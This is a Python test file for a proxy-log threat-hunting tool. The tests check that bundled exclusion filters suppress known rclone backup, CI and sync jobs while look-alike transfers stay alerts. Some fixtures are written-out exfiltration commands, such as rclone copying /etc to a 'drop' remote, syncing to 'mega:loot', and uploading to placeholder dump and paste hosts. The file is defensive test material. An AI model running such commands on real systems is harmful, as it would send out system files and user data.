"""Bundled exclusions end to end: made-up proxy lines and process records, real pySigma filters and DuckDB.

Each scenario has a match (suppressed, naming the filter and values) and a
near miss (the same command line shape to an unknown destination, which must
stay an alert).
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml

from proxyhunt.hunt import hunt
from proxyhunt.tuning.exclusions import ALL_SAFE, UNSAFE_EXCLUSIONS, UnknownExclusionError, bundled_exclusions, resolve_exclusions

REPOSITORY = Path(__file__).parents[1]
SAMPLES = REPOSITORY / "examples" / "process"
RCLONE_RULE_ID = "2c03648b-e081-41a5-b9fb-7d854a915091"
# The rclone pack's variants, Yandex, PikPak and URL-artefact rules, which every bundled exclusion also tunes.
RCLONE_PACK_RULE_IDS = [
    "0fc99d9e-582c-4271-af66-7342662fbd77",
    "0883bf18-8b81-4890-95e4-64f77b90fc84",
    "d4b313e9-7a34-4aed-9b33-288f551d3879",
    "cf250798-f3e4-4b36-bf67-c82e11beb52e",
]
BASE = datetime(2026, 11, 20, 1, 0, 0)

LISTS = {
    "known_backup_remotes": ["nas-backup:nightly/*"],
    "known_backup_destinations": ["backup.example.net"],
    "known_cicd_rclone_configs": ["/var/lib/jenkins/*/ci.conf"],
    "known_artifact_remotes": ["artifacts:releases/*"],
    "known_artifact_hosts": ["artifacts.example.com"],
    "known_internal_shares": ["\\\\\\\\fs01\\projects*"],
    "known_sync_remotes": ["corp-s3:projects-mirror/*"],
    "known_sync_hosts": ["projects-mirror.s3.example.com"],
    "known_personal_storage_hosts": ["*.mega.co.nz"],
    "known_personal_transfer_users": ["CORP\\alice"],
    "known_tool_rclone_configs": ["C:\\Program Files\\MediaVault\\rclone.conf"],
    "known_service_accounts": ["CORP\\svc-mediavault"],
    "known_tool_hosts": ["vault.mediavault.example"],
    "known_rclone_sources": ["10.0.0.20"],
    "known_rclone_users": ["svc-backup"],
    "known_rclone_destination_hosts": ["backup.example.net"],
    "nightly_job_sources": ["10.0.0.20"],
    "nightly_job_times_utc": ["01:*"],
    "nightly_job_destination_hosts": ["backup.example.net"],
}


def proxy_line(ip: str, time: datetime, url: str, agent: str = "rclone/v1.66.0", user: str = "-") -> str:
    stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return f'{ip} - {user} [{stamp}] "PUT {url} HTTP/1.1" 200 1048576 "-" "{agent}"\n'


def sysmon_event(host: str, time: datetime, pid: int, image: str, command_line: str, user: str = "CORP\\svc-backup",
                 original: str = "rclone.exe") -> str:
    def escape(text: str) -> str:
        return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")

    return (
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System>'
        '<Provider Name="Microsoft-Windows-Sysmon"/><EventID>1</EventID>'
        f'<TimeCreated SystemTime="{time:%Y-%m-%dT%H:%M:%S}.0000000Z"/>'
        f"<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>{host}</Computer></System><EventData>"
        f'<Data Name="UtcTime">{time:%Y-%m-%d %H:%M:%S}.000</Data><Data Name="ProcessId">{pid}</Data>'
        f'<Data Name="Image">{escape(image)}</Data><Data Name="OriginalFileName">{original}</Data>'
        f'<Data Name="CommandLine">{escape(command_line)}</Data><Data Name="User">{escape(user)}</Data>'
        '<Data Name="ParentImage">C:\\Windows\\System32\\svchost.exe</Data></EventData></Event>\n'
    )


def security_4688(host: str, time: datetime, pid: int, image: str, command_line: str, user: str) -> str:
    domain, name = user.split("\\")
    return json.dumps({
        "EventID": 4688, "Channel": "Security", "Computer": host, "TimeCreated": f"{time:%Y-%m-%dT%H:%M:%S}Z",
        "NewProcessId": hex(pid), "NewProcessName": image, "CommandLine": command_line,
        "SubjectUserName": f"{host}$", "SubjectDomainName": domain, "TargetUserName": name, "TargetDomainName": domain,
        "ParentProcessName": "C:\\Program Files\\MediaVault\\bin\\mediavault.exe",
    }) + "\n"


def defender_rows(*rows: tuple[str, datetime, int, str, str]) -> str:
    header = "Timestamp,DeviceName,ActionType,FileName,FolderPath,ProcessVersionInfoOriginalFileName,ProcessId," \
             "ProcessCommandLine,AccountDomain,AccountName\n"
    lines = []
    for host, time, pid, command_line, account in rows:
        quoted = command_line.replace('"', '""')
        lines.append(f'{time:%Y-%m-%dT%H:%M:%S}.0000000Z,{host},ProcessCreated,rclone.exe,C:\\Tools\\rclone.exe,'
                     f'rclone.exe,{pid},"{quoted}",CORP,{account}\n')
    return header + "".join(lines)


def auditd_execution(node: str, time: datetime, serial: int, pid: int, argv: list[str], user: str) -> str:
    epoch = time.replace(tzinfo=timezone.utc).timestamp()
    arguments = " ".join(f'a{index}="{value}"' for index, value in enumerate(argv))
    return (
        f"node={node} type=SYSCALL msg=audit({epoch:.3f}:{serial}): arch=c000003e syscall=59 success=yes exit=0 "
        f'ppid=1 pid={pid} auid=1001 uid=1001 comm="rclone" exe="/usr/bin/rclone" key="exec"\x1dUID="{user}"\n'
        f"node={node} type=EXECVE msg=audit({epoch:.3f}:{serial}): argc={len(argv)} {arguments}\n"
    )


class Scenario:
    """Files for one hunt: a proxy log, process logs, an asset list and a lists file."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.proxy = folder / "proxy.log"
        self.process_folder = folder / "endpoint"
        self.process_folder.mkdir()
        self.assets = folder / "assets.csv"
        self.assets.write_text("hostname,ip\nws01,10.0.0.10\nbackup01,10.0.0.20\nbuild07,10.0.0.30\n"
                               "fs-admin01,10.0.0.40\nmedia01,10.0.0.50\n", encoding="utf-8")
        self.lists = folder / "lists.yml"
        self.lists.write_text(yaml.safe_dump(LISTS), encoding="utf-8")
        self.proxy_lines: list[str] = []

    def request(self, ip: str, time: datetime, url: str, **options) -> None:
        self.proxy_lines.append(proxy_line(ip, time, url, **options))

    def process_log(self, name: str, text: str) -> None:
        with open(self.process_folder / name, "a", encoding="utf-8") as handle:
            handle.write(text)

    def run(self, exclusions: list[str], with_processes: bool = True, **options):
        self.proxy.write_text("".join(self.proxy_lines), encoding="utf-8")
        result = hunt(
            [str(self.proxy)],
            exclusions=exclusions,
            lists_path=str(self.lists),
            process_logs=[str(self.process_folder)] if with_processes else None,
            assets_path=str(self.assets),
            **options,
        )
        return {finding["DstHostname"]: finding for finding in result.findings}, result


@pytest.fixture
def scenario(tmp_path):
    return Scenario(tmp_path)


def suppressed_by(finding: dict, name: str) -> dict:
    """Return the values of the suppression that the bundled exclusion ``name`` recorded."""
    assert finding["Verdict"] == "suppressed", finding["ProcessMatch"]
    path = str(bundled_exclusions()[name])
    matches = [entry for entry in finding["Suppressions"] if entry["filter_source"] == path]
    assert len(matches) == 1, finding["Suppressions"]
    return matches[0]["values"]


def test_scheduled_backup_sysmon_match_and_near_miss(scenario):
    backup = r'"C:\Program Files\rclone\rclone.exe" sync D:\data {remote} --backup-dir {remote}-old --config C:\rclone.conf'
    scenario.process_log("sysmon.xml", sysmon_event("BACKUP01.corp", BASE, 4120, r"C:\Program Files\rclone\rclone.exe",
                                                     backup.format(remote="nas-backup:nightly/backup01")))
    scenario.process_log("sysmon.xml", sysmon_event("BACKUP01.corp", BASE + timedelta(hours=2), 4121,
                                                     r"C:\Program Files\rclone\rclone.exe",
                                                     backup.format(remote="dump-s3:dump/backup01")))
    scenario.request("10.0.0.20", BASE + timedelta(minutes=5), "http://backup.example.net/nightly/backup01/a.tar")
    scenario.request("10.0.0.20", BASE + timedelta(hours=2, minutes=5), "http://dump.example.org/dump/backup01/a.tar")
    findings, result = scenario.run(["scheduled-backup"])

    values = suppressed_by(findings["backup.example.net"], "scheduled-backup")
    assert values["RcloneSubcommand"] == "sync"
    assert values["RcloneDestination"] == "nas-backup:nightly/backup01"
    assert values["DstHostname"] == "backup.example.net"
    assert findings["dump.example.org"]["Verdict"] == "alert"
    assert findings["dump.example.org"]["ProcessMatch"].startswith("found: pid 4121")
    assert findings["dump.example.org"]["Suppressions"] == []


def test_ci_cd_auditd_match_and_near_miss(scenario):
    argv = ["rclone", "copy", "./dist", "artifacts:releases/1.4", "--config", "/var/lib/jenkins/.config/ci.conf"]
    scenario.process_log("audit.log", auditd_execution("build07", BASE, 1, 500, argv, "jenkins"))
    stolen = ["rclone", "copy", "/etc", "drop:x", "--config", "/var/lib/jenkins/.config/ci.conf"]
    scenario.process_log("audit.log", auditd_execution("build07", BASE + timedelta(hours=1), 2, 501, stolen, "jenkins"))
    scenario.request("10.0.0.30", BASE + timedelta(minutes=1), "http://artifacts.example.com/releases/1.4/app.zip")
    scenario.request("10.0.0.30", BASE + timedelta(hours=1, minutes=1), "http://drop.example.org/x/passwd")
    findings, _ = scenario.run(["ci-cd"])

    values = suppressed_by(findings["artifacts.example.com"], "ci-cd")
    assert values["RcloneConfig"] == "/var/lib/jenkins/.config/ci.conf"
    assert findings["drop.example.org"]["Verdict"] == "alert"
    assert findings["drop.example.org"]["RcloneConfig"] == "/var/lib/jenkins/.config/ci.conf"


def test_admin_sync_defender_match_and_near_miss(scenario):
    scenario.process_log("DeviceProcessEvents.csv", defender_rows(
        ("fs-admin01", BASE, 700, r"rclone.exe sync \\fs01\projects corp-s3:projects-mirror/2026", "adm-jdoe"),
        ("fs-admin01", BASE + timedelta(hours=3), 701, r"rclone.exe sync \\fs01\projects corp-s3:other/2026", "adm-jdoe"),
    ))
    scenario.request("10.0.0.40", BASE + timedelta(minutes=2), "http://projects-mirror.s3.example.com/2026/a.docx")
    scenario.request("10.0.0.40", BASE + timedelta(hours=3, minutes=2), "http://other.s3.example.com/2026/a.docx")
    findings, _ = scenario.run(["admin-sync"])

    values = suppressed_by(findings["projects-mirror.s3.example.com"], "admin-sync")
    assert values["RcloneSource"] == r"\\fs01\projects"
    assert findings["other.s3.example.com"]["Verdict"] == "alert"


def test_embedded_tool_security_4688_match_and_near_miss(scenario):
    command = r'"C:\Program Files\MediaVault\bin\rclone.exe" copy E:\media vault:library --config "C:\Program Files\MediaVault\rclone.conf"'
    scenario.process_log("security.json", security_4688("MEDIA01", BASE, 0x1A2C, r"C:\Program Files\MediaVault\bin\rclone.exe",
                                                        command, "CORP\\svc-mediavault"))
    scenario.request("10.0.0.50", BASE + timedelta(minutes=3), "http://vault.mediavault.example/upload")
    scenario.request("10.0.0.50", BASE + timedelta(minutes=4), "http://paste.example.org/upload")
    findings, _ = scenario.run(["embedded-tool"])

    values = suppressed_by(findings["vault.mediavault.example"], "embedded-tool")
    assert values["ProcessUser"] == "CORP\\svc-mediavault"
    assert findings["paste.example.org"]["Verdict"] == "alert"


def test_user_transfer_only_when_named(scenario):
    command = r"rclone.exe copy C:\Users\{user}\Docs mega:docs --mega-user {user}@example.org --mega-pass secret"
    scenario.process_log("sysmon.xml", sysmon_event("WS01", BASE, 900, r"C:\Tools\rclone.exe",
                                                     command.format(user="alice"), user="CORP\\alice"))
    scenario.request("10.0.0.10", BASE + timedelta(minutes=1), "http://g.api.mega.co.nz/cs")
    findings, _ = scenario.run([ALL_SAFE])
    assert findings["g.api.mega.co.nz"]["Verdict"] == "alert"

    findings, _ = scenario.run(["user-transfer"])
    values = suppressed_by(findings["g.api.mega.co.nz"], "user-transfer")
    assert values["ProcessUser"] == "CORP\\alice"


def test_user_transfer_near_miss_other_user(scenario):
    command = r"rclone.exe copy C:\Users\eve\Docs mega:docs --mega-user eve@example.org --mega-pass secret"
    scenario.process_log("sysmon.xml", sysmon_event("WS01", BASE, 901, r"C:\Tools\rclone.exe", command, user="CORP\\eve"))
    scenario.request("10.0.0.10", BASE + timedelta(minutes=1), "http://g.api.mega.co.nz/cs")
    findings, _ = scenario.run(["user-transfer"])
    assert findings["g.api.mega.co.nz"]["Verdict"] == "alert"


def test_no_process_found_stays_alert(scenario):
    scenario.process_log("sysmon.xml", sysmon_event("BACKUP01", BASE, 4120, r"C:\rclone\rclone.exe",
                                                     r"rclone.exe sync D:\d nas-backup:nightly/b --backup-dir x:y"))
    scenario.request("10.0.0.99", BASE + timedelta(minutes=5), "http://backup.example.net/nightly/b/a.tar")
    findings, result = scenario.run(["scheduled-backup"])
    finding = findings["backup.example.net"]
    assert finding["Verdict"] == "alert"
    assert finding["ProcessMatch"].startswith("not found: no process log or asset entry names the client host")
    assert result.process_correlation.summary.counts["not found"] == 1


def test_two_rclone_processes_on_one_host(scenario):
    scenario.process_log("sysmon.xml", sysmon_event("WS01", BASE, 1, r"C:\rclone\rclone.exe",
                                                     r"rclone.exe sync D:\d nas-backup:nightly/ws01 --backup-dir nas-backup:old"))
    scenario.process_log("sysmon.xml", sysmon_event("WS01", BASE + timedelta(minutes=10), 2, r"C:\rclone\rclone.exe",
                                                     r"rclone.exe sync D:\d mega:loot --backup-dir mega:old", user="CORP\\eve"))
    scenario.request("10.0.0.10", BASE + timedelta(minutes=20), "http://backup.example.net/nightly/ws01/a.tar")
    scenario.request("10.0.0.10", BASE + timedelta(minutes=21), "http://g.api.mega.co.nz/cs")
    findings, _ = scenario.run(["scheduled-backup"])

    backup = findings["backup.example.net"]
    assert backup["ProcessId"] == 1
    suppressed_by(backup, "scheduled-backup")
    exfiltration = findings["g.api.mega.co.nz"]
    assert exfiltration["Verdict"] == "alert"
    assert exfiltration["ProcessMatch"].startswith("ambiguous: 2 rclone processes")
    assert exfiltration["ProcessId"] is None


def test_renamed_binaries(scenario):
    # Sysmon keeps OriginalFileName. Security 4688 has none, so the command-line shape identifies rclone.
    scenario.process_log("sysmon.xml", sysmon_event("BACKUP01", BASE, 10, r"C:\Jobs\nightly.exe",
                                                     r"nightly.exe sync D:\d nas-backup:nightly/b --backup-dir nas-backup:o"))
    scenario.process_log("security.json", security_4688("WS01", BASE, 11, r"C:\Temp\svc.exe",
                                                        r"C:\Temp\svc.exe sync C:\x nas-backup:nightly/ws01 --backup-dir nas-backup:o",
                                                        "CORP\\eve"))
    scenario.request("10.0.0.20", BASE + timedelta(minutes=1), "http://backup.example.net/nightly/b/1")
    scenario.request("10.0.0.10", BASE + timedelta(minutes=2), "http://backup.example.net:8080/nightly/ws01/1")
    result_findings, result = scenario.run(["scheduled-backup"])
    findings = result.findings
    assert len(findings) == 2
    assert all(finding["Verdict"] == "suppressed" for finding in findings)
    reasons = sorted(finding["ProcessMatch"] for finding in findings)
    assert "rclone recognized by OriginalFileName rclone.exe" in reasons[0] + reasons[1]
    assert "rclone recognized by command-line shape (subcommand sync, remote nas-backup:)" in reasons[0] + reasons[1]


def test_clock_skew(scenario):
    # The endpoint's clock runs 90 seconds ahead: its process starts "after" the request.
    scenario.process_log("sysmon.xml", sysmon_event("BACKUP01", BASE + timedelta(seconds=90), 4120, r"C:\r\rclone.exe",
                                                     r"rclone.exe sync D:\d nas-backup:nightly/b --backup-dir x:y"))
    scenario.request("10.0.0.20", BASE, "http://backup.example.net/nightly/b/a.tar")
    findings, _ = scenario.run(["scheduled-backup"])
    suppressed_by(findings["backup.example.net"], "scheduled-backup")

    findings, _ = scenario.run(["scheduled-backup"], clock_skew=timedelta(0))
    assert findings["backup.example.net"]["Verdict"] == "alert"
    assert findings["backup.example.net"]["ProcessMatch"].startswith("not found: no rclone process on backup01")


def test_process_window(scenario):
    scenario.process_log("sysmon.xml", sysmon_event("BACKUP01", BASE, 4120, r"C:\r\rclone.exe",
                                                     r"rclone.exe sync D:\d nas-backup:nightly/b --backup-dir x:y"))
    scenario.request("10.0.0.20", BASE + timedelta(hours=3), "http://backup.example.net/nightly/b/a.tar")
    findings, _ = scenario.run(["scheduled-backup"], process_window=timedelta(hours=2))
    assert findings["backup.example.net"]["Verdict"] == "alert"
    findings, _ = scenario.run(["scheduled-backup"], process_window=timedelta(hours=4))
    assert findings["backup.example.net"]["Verdict"] == "suppressed"


def test_process_exclusion_without_process_logs_suppresses_nothing(scenario):
    scenario.request("10.0.0.20", BASE, "http://backup.example.net/nightly/b/a.tar")
    findings, result = scenario.run(["scheduled-backup"], with_processes=False)
    assert findings["backup.example.net"]["Verdict"] == "alert"
    assert result.process_correlation is None


def test_proxy_only_exclusions(scenario):
    scenario.request("10.0.0.20", BASE + timedelta(minutes=30), "http://backup.example.net/n/1")
    scenario.request("10.0.0.20", BASE + timedelta(hours=5), "http://backup.example.net:9000/n/2")
    scenario.request("10.0.0.21", BASE + timedelta(minutes=40), "http://elsewhere.example.org/n/3", user="svc-backup")
    _, result = scenario.run(["proxy-nightly-window"], with_processes=False)
    in_window, other_source, out_of_window = sorted(result.findings, key=lambda finding: finding["TimeGenerated"])
    values = suppressed_by(in_window, "proxy-nightly-window")
    assert values["TimeOfDayUtc"] == "01:30"
    # Another source inside the window, and the same source outside it, stay alerts.
    assert other_source["Verdict"] == "alert"
    assert out_of_window["Verdict"] == "alert"

    findings, _ = scenario.run(["proxy-known-users"], with_processes=False)
    assert suppressed_by(findings["elsewhere.example.org"], "proxy-known-users") == {"SrcUsername": "svc-backup"}

    findings, result = scenario.run(["proxy-known-sources", "proxy-known-destinations"], with_processes=False)
    assert sorted(finding["Verdict"] for finding in result.findings) == ["alert", "suppressed", "suppressed"]


def test_all_safe_leaves_out_unsafe():
    paths = resolve_exclusions([ALL_SAFE])
    names = {Path(path).stem for path in paths}
    assert names == set(bundled_exclusions()) - UNSAFE_EXCLUSIONS
    assert "user-transfer" not in names


def test_exclusion_names_comma_separated():
    assert [Path(path).stem for path in resolve_exclusions(["ci-cd,scheduled-backup", " admin-sync "])] == [
        "admin-sync", "ci-cd", "scheduled-backup"
    ]


def test_unknown_exclusion_name():
    with pytest.raises(UnknownExclusionError, match="unknown exclusion 'backups'; choose from all-safe, admin-sync"):
        resolve_exclusions(["backups"])


def test_bundled_exclusions_documented():
    sample_lists = yaml.safe_load((REPOSITORY / "examples" / "lists.yml").read_text(encoding="utf-8"))
    docs = (REPOSITORY / "docs" / "exclusions.md").read_text(encoding="utf-8")
    for name, path in bundled_exclusions().items():
        document = yaml.safe_load(path.read_text(encoding="utf-8"))
        text = path.read_text(encoding="utf-8")
        assert document["name"] == name
        # The rclone rule, then the rclone pack's user-agent and URL rules (docs/rclone.md, Exclusions).
        assert document["filter"]["rules"] == [RCLONE_RULE_ID, *RCLONE_PACK_RULE_IDS]
        placeholders = set(re.findall(r"%(\w+)%", text))
        assert placeholders, name
        for placeholder in placeholders:
            assert placeholder in document["description"], (name, placeholder)
            assert sample_lists.get(placeholder), (name, placeholder)
            assert placeholder in docs, (name, placeholder)
        assert f"### {name}" in docs


def test_cli_exclusions_jsonl_and_show_suppressed(tmp_path):
    output = tmp_path / "findings.jsonl"
    completed = subprocess.run(
        [sys.executable, "-m", "proxyhunt", "hunt", str(SAMPLES / "proxy-rclone-jobs.log"),
         "--process-logs", str(SAMPLES / "endpoint"), "--assets", str(SAMPLES / "assets.csv"),
         "--lists", str(REPOSITORY / "examples" / "lists.yml"), "--exclusions", "scheduled-backup,ci-cd,admin-sync,embedded-tool",
         "--show-suppressed", "--no-color", "--output", str(output)],
        capture_output=True, text=True, cwd=REPOSITORY, env={"COLUMNS": "200", "PATH": "/usr/bin:/bin"},
    )
    assert completed.returncode == 1, completed.stderr
    records = [json.loads(line) for line in output.read_text(encoding="utf-8").splitlines()]
    verdicts = {record["DstHostname"]: record["Verdict"] for record in records}
    assert verdicts == {
        "backup.example.com": "suppressed",
        "artifacts.example.com": "suppressed",
        "projects-mirror.s3.eu-west-1.amazonaws.com": "suppressed",
        "vault.mediavault-cloud.example": "suppressed",
        "g.api.mega.co.nz": "alert",
        "dump.example.org": "alert",
        "files.example.org": "alert",
    }
    assert "process correlation (window 12h00m00s, clock skew 2m00s): 7 proxy events, 6 matched" in completed.stderr


def test_cli_unknown_exclusion_is_usage_error():
    completed = subprocess.run(
        [sys.executable, "-m", "proxyhunt", "hunt", str(SAMPLES / "proxy-rclone-jobs.log"), "--exclusions", "nope"],
        capture_output=True, text=True, cwd=REPOSITORY,
    )
    assert completed.returncode == 2
    assert "--exclusions: unknown exclusion 'nope'" in completed.stderr


def test_cli_rejects_bad_duration():
    completed = subprocess.run(
        [sys.executable, "-m", "proxyhunt", "hunt", str(SAMPLES / "proxy-rclone-jobs.log"), "--clock-skew", "5 minutes"],
        capture_output=True, text=True, cwd=REPOSITORY,
    )
    assert completed.returncode == 2
    assert "invalid duration '5 minutes'" in completed.stderr


def test_cli_reports_unreadable_process_log_and_assets(tmp_path):
    notes = tmp_path / "notes.txt"
    notes.write_text("not a log\n", encoding="utf-8")
    assets = tmp_path / "assets.csv"
    assets.write_text("name,owner\nws1,x\n", encoding="utf-8")
    completed = subprocess.run(
        [sys.executable, "-m", "proxyhunt", "hunt", str(SAMPLES / "proxy-rclone-jobs.log"),
         "--process-logs", str(notes), "--assets", str(assets), "--no-color", "-q"],
        capture_output=True, text=True, cwd=REPOSITORY,
    )
    assert completed.returncode == 1
    assert f"error: process log {notes}: not a recognized process-creation log" in completed.stderr
    assert f"error: {assets}:1: the header needs a host name column and an address column" in completed.stderr
